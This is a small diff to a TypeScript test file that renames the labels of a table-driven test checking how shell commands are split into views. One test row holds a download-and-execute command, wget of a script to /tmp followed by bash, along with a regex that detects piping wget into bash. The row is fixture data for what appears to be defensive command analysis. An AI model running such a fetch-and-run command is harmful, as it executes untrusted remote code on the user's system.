@@ -142,9 +142,9 @@ const ROWS: readonly (readonly [string, RegExp])[] = [
   ['wget -P /tmp https://x/x.sh && bash /tmp/x.sh', /wget .*\| bash/],
 ];
 
-describe('what other shells run', () => {
+describe('commands of other shells', () => {
   for (const [command, view] of ROWS) {
-    it(`is found in ${JSON.stringify(command)}`, () => {
+    it(`are found in ${JSON.stringify(command)}`, () => {
       const texts = commandViews(command)
         .views.slice(1)
         .map(({ text }) => text);
